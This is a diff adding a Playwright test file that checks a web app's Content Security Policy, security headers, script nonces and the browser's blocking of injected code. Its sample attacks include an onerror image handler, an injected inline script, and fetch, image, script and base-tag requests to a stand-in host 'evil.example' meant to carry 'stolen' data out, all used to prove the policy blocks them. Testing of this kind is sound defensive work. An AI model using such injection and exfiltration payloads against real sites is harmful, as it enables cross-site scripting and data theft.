@@ -1,0 +1,166 @@
+import type { APIResponse, Page } from '@playwright/test'
+import { expect, logIn, test } from '../support/browser-test'
+
+/** The directives of an answer's policy by their names. */
+function policyOf(answer: Pick<APIResponse, 'headers'>): Record<string, string> {
+  const policy = answer.headers()['content-security-policy'] ?? ''
+  const directives = policy.split('; ').map((directive) => {
+    const [name = '', ...sources] = directive.split(' ')
+    return [name, sources.join(' ')] as const
+  })
+  return Object.fromEntries(directives)
+}
+
+/** What closes the holes that a script cannot be stopped at, on every page. */
+const CLOSED = {
+  'default-src': "'self'",
+  'script-src-attr': "'none'",
+  'object-src': "'none'",
+  'base-uri': "'none'",
+  'frame-ancestors': "'none'",
+  'form-action': "'self'",
+  'font-src': "'self'",
+}
+
+/** The inline scripts that a browser was sent and would run. */
+function inlineScripts(html: string): string[] {
+  return (html.match(/<script(?![^>]*\ssrc=)[^>]*>/g) ?? []).filter(
+    (tag) => !tag.includes('application/ld+json'),
+  )
+}
+
+test('every page names the hosts that its scripts, frames and calls may come from', async ({
+  request,
+}) => {
+  for (const path of ['/', '/allrequest', '/login', '/donate', '/no/such/page']) {
+    const answer = await request.get(path)
+    const policy = policyOf(answer)
+    expect([path, policy]).toEqual([path, expect.objectContaining(CLOSED)])
+    expect(policy['script-src']).not.toContain('unsafe-eval')
+    expect(policy['script-src']).not.toMatch(/\*(?!\.js\.stripe\.com)|https?:(?!\/\/)/)
+    expect(policy['img-src']).toBe("'self' data: blob: https://res.cloudinary.com")
+    expect(answer.headers()).toMatchObject({
+      'strict-transport-security': 'max-age=63072000; includeSubDomains',
+      'cross-origin-opener-policy': 'same-origin',
+      'cross-origin-resource-policy': 'same-origin',
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'permissions-policy': expect.stringContaining('geolocation=()'),
+      'reporting-endpoints': 'csp="/api/csp-reports"',
+    })
+  }
+})
+
+test('a page of one person runs the inline scripts that were made for this request alone', async ({
+  page,
+}) => {
+  await logIn(page, 'member@sharelife.example')
+  const nonces = new Set<string>()
+  for (const path of [
+    '/donate',
+    '/dashboard/userhome',
+    '/dashboard/no-such-page',
+    '/reset?token=x',
+  ]) {
+    const answer = await page.request.get(path)
+    const { 'script-src': scripts = '', ...policy } = policyOf(answer)
+    expect([path, policy]).toEqual([path, expect.objectContaining({ 'object-src': "'none'" })])
+    expect(scripts).not.toContain('unsafe-inline')
+    const [, nonce = ''] = /'nonce-([^']+)'/.exec(scripts) ?? []
+    expect(nonce.length).toBeGreaterThan(20)
+    nonces.add(nonce)
+    const without = inlineScripts(await answer.text()).filter((tag) => !tag.includes(nonce))
+    // The script of the theme stands in kept pages too: the policy knows it by its hash.
+    expect([path, without]).toEqual([path, ['<script>']])
+    expect(answer.headers()['cache-control']).toContain('no-store')
+  }
+  expect(nonces.size).toBe(4)
+})
+
+/** What the browser stopped while `act` ran on a page. */
+async function stoppedBy(page: Page, act: () => unknown): Promise<string[]> {
+  await page.evaluate(() => {
+    const stopped: string[] = []
+    Object.assign(window, { stopped })
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      stopped.push(effectiveDirective),
+    )
+  })
+  await page.evaluate(act as () => void)
+  await expect.poll(() => page.evaluate(() => window.stopped.length)).toBeGreaterThan(0)
+  return page.evaluate(() => window.stopped)
+}
+
+declare global {
+  interface Window {
+    stopped: string[]
+    wasRun?: true
+  }
+}
+
+test.describe('somebody who gets their own words into a page', () => {
+  // What is stopped is an error on the console: here that is the point.
+  test.use({ watched: undefined })
+
+  test('runs nothing from an attribute, on a kept page as on a person’s own', async ({ page }) => {
+    for (const path of ['/about', '/donate']) {
+      if (path === '/donate') await logIn(page, 'member@sharelife.example')
+      await page.goto(path)
+      const stopped = await stoppedBy(page, () => {
+        document.body.insertAdjacentHTML(
+          'beforeend',
+          '<img src="/no-such-picture.png" onerror="window.wasRun = true">',
+        )
+      })
+      expect([path, stopped]).toEqual([path, ['script-src-attr']])
+      expect(await page.evaluate(() => window.wasRun)).toBeUndefined()
+    }
+  })
+
+  test('runs no inline script on a page that is made for one person', async ({ page }) => {
+    await logIn(page, 'member@sharelife.example')
+    await page.goto('/donate')
+    const stopped = await stoppedBy(page, () => {
+      const script = document.createElement('script')
+      script.textContent = 'window.wasRun = true'
+      document.body.append(script)
+    })
+    expect(stopped).toEqual(['script-src-elem'])
+    expect(await page.evaluate(() => window.wasRun)).toBeUndefined()
+  })
+
+  test('sends nothing to another host, and brings no code from one', async ({ page }) => {
+    await page.goto('/about')
+    const stopped = await stoppedBy(page, () => {
+      void fetch('https://evil.example/?stolen').catch(() => undefined)
+      new Image().src = 'https://evil.example/stolen.png'
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/script.js'
+      const base = document.createElement('base')
+      base.href = 'https://evil.example/'
+      document.head.append(script, base)
+    })
+    expect(stopped.sort()).toEqual(['base-uri', 'connect-src', 'img-src', 'script-src-elem'])
+  })
+})
+
+test('calls answer data alone, and pictures may be shown by whoever shares a page', async ({
+  request,
+}) => {
+  const calls = ['/api/getservices', '/getservices', '/api/no-such-call', '/api/health']
+  for (const path of calls) {
+    const answer = await request.get(path)
+    expect([path, policyOf(answer)]).toEqual([
+      path,
+      expect.objectContaining({ 'default-src': "'none'", 'frame-ancestors': "'none'" }),
+    ])
+    expect(answer.headers()['cross-origin-resource-policy']).toBe('same-origin')
+  }
+  const page = await (await request.get('/')).text()
+  const [, card = ''] = /property="og:image" content="https?:\/\/[^/"]+([^"]+)"/.exec(page) ?? []
+  for (const path of [card, '/icons/icon-192.png', '/favicon.ico', '/press/sharelife-mark.svg']) {
+    const answer = await request.get(path)
+    expect([path, answer.status()]).toEqual([path, 200])
+    expect(answer.headers()['cross-origin-resource-policy']).toBe('cross-origin')
+  }
+})
